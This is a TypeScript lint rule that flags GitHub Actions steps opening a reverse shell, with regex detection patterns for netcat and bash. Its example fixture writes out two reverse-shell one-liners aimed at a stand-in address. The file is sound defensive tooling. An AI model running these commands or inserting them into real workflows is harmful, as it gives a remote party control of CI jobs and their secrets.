import { bad, defineRule, good } from '../rule.ts';
import { steps } from '../shared/workflow-example.ts';
import { stepCommands } from '../shared/workflow-run.ts';

export default defineRule({
  id: 'reverse-shell',
  area: 'ci',
  severity: 'critical',
  aliases: ['checkov:CKV_GHA_4'],
  title: 'A step opens a shell to another machine',
  why: 'Whoever listens there works in the job, with its token and secrets.',
  fix: 'Remove the command, and find out who put it there.',
  references: ['https://docs.github.com/en/actions/reference/security/secure-use'],
  on: 'step',
  only: ['run'],
  *check(step) {
    for (const { program, words, span, start } of stepCommands(step)) {
      const isNetcat =
        /^(?:nc|ncat|netcat)$/.test(program) && words.some((word) => /^-\w*[ec]$|^--exec/.test(word));
      const text = step.run?.value.slice(start) ?? '';
      const isBash = /^(?:ba|z)?sh$/.test(program) && /^\S+\s+-i\b[^\n]*\/dev\/tcp\//.test(text);
      if (isNetcat || isBash) yield { at: span, message: `${program} hands a shell to another machine` };
    }
  },
  examples: [
    bad(
      steps(`
      - run: nc -e /bin/sh 203.0.113.9 4444
      - run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
    `),
      ['.github/workflows/ci.yml:6:14', '.github/workflows/ci.yml:7:14'],
    ),
    good(
      steps(`
      - run: nc -z localhost 5432
    `),
    ),
  ],
});
